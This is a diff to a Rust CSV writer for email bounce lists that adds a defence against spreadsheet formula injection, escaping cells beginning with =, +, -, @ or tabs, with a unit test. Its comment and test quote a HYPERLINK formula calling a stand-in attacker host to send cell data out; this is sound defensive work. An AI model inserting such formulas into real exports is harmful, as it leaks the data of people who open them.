@@ -11,7 +11,12 @@
 //! | `mailgun` | CSV `address,code,error,created_at` | a Mailgun bounce list import |
 //!
 //! The writers keep no rows: memory does not grow with the list.
+//!
+//! In the CSV formats (`csv`, `listmonk`, `ses`, `mailgun`) a cell that a spreadsheet would read as
+//! a formula (its first non-blank character is `=`, `+`, `-` or `@`, or it starts with a tab or a
+//! carriage return) gets a leading `'`: see [`spreadsheet_cell`].
 
+use std::borrow::Cow;
 use std::fmt;
 use std::io::{self, Write};
 use std::str::FromStr;
@@ -107,6 +112,29 @@ fn one_line(s: &str) -> String {
         }
     }
     out
+}
+
+/// A cell of a CSV file as written: when a spreadsheet would take it for a formula (its first
+/// non-blank character is `=`, `+`, `-` or `@`, or it starts with a tab or a carriage return), it
+/// gets a leading `'`, which spreadsheets read as "this is text". Diagnostics and addresses come
+/// from the Internet: `=HYPERLINK("http://evil.example/?"&B2, "...")` in a diagnostic would otherwise
+/// run in the spreadsheet of whoever opens the export.
+pub fn spreadsheet_cell(s: &str) -> Cow<'_, str> {
+    let formula = s.starts_with(['\t', '\r'])
+        || s.trim_start().starts_with([
+            '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+        ]);
+    if formula {
+        Cow::Owned(format!("'{s}"))
+    } else {
+        Cow::Borrowed(s)
+    }
+}
+
+/// Writes one CSV record, each cell made safe for spreadsheets.
+fn write_cells<W: Write>(w: &mut csv::Writer<W>, cells: &[&str]) -> io::Result<()> {
+    w.write_record(cells.iter().map(|c| spreadsheet_cell(c).into_owned()))
+        .map_err(csv_err)
 }
 
 /// `5.x.y` with one to three digits in each of the last two parts.
@@ -234,18 +262,20 @@ impl<W: Write> Writer<W> {
             }
             (Sink::Csv(w), Format::Csv) => {
                 let diagnostic = row.diagnostic.as_deref().map(one_line).unwrap_or_default();
-                w.write_record([
-                    email,
-                    &row.bounce_type,
-                    &row.reason,
-                    row.status.as_deref().unwrap_or(""),
-                    row.replycode.as_deref().unwrap_or(""),
-                    &diagnostic,
-                    &row.first_seen.rfc3339(),
-                    &row.last_seen.rfc3339(),
-                    &row.count.to_string(),
-                ])
-                .map_err(csv_err)
+                write_cells(
+                    w,
+                    &[
+                        email,
+                        &row.bounce_type,
+                        &row.reason,
+                        row.status.as_deref().unwrap_or(""),
+                        row.replycode.as_deref().unwrap_or(""),
+                        &diagnostic,
+                        &row.first_seen.rfc3339(),
+                        &row.last_seen.rfc3339(),
+                        &row.count.to_string(),
+                    ],
+                )
             }
             (Sink::Csv(w), Format::Listmonk) => {
                 let name = email.rsplit_once('@').map_or(email, |(local, _)| local);
@@ -259,7 +289,7 @@ impl<W: Write> Writer<W> {
                     },
                 };
                 let json = serde_json::to_string(&attrs).map_err(io::Error::other)?;
-                w.write_record([email, name, &json]).map_err(csv_err)
+                write_cells(w, &[email, name, &json])
             }
             (Sink::Csv(w), Format::Ses) => {
                 let kind = if row.bounce_type == "complaint" {
@@ -267,7 +297,7 @@ impl<W: Write> Writer<W> {
                 } else {
                     "BOUNCE"
                 };
-                w.write_record([email, kind]).map_err(csv_err)
+                write_cells(w, &[email, kind])
             }
             (Sink::Csv(w), _) => {
                 let code = row
@@ -281,8 +311,7 @@ impl<W: Write> Writer<W> {
                     .map(one_line)
                     .filter(|d| !d.is_empty())
                     .unwrap_or_else(|| row.reason.clone());
-                w.write_record([email, code, &error, &row.suppressed_at.0.to_rfc2822()])
-                    .map_err(csv_err)
+                write_cells(w, &[email, code, &error, &row.suppressed_at.0.to_rfc2822()])
             }
         }
     }
@@ -342,6 +371,27 @@ mod tests {
             assert_eq!(f.as_str().parse::<Format>(), Ok(f));
         }
         assert!("xml".parse::<Format>().is_err());
+    }
+
+    #[test]
+    fn formula_cells_become_text() {
+        for (cell, want) in [
+            (
+                "=HYPERLINK(\"http://evil.example/\")",
+                "'=HYPERLINK(\"http://evil.example/\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("  =1+1", "'  =1+1"),
+            ("\t=1", "'\t=1"),
+            ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
+            ("550 5.1.1 user unknown", "550 5.1.1 user unknown"),
+            ("ann@example.com", "ann@example.com"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_cell(cell), want, "{cell:?}");
+        }
     }
 
     #[test]
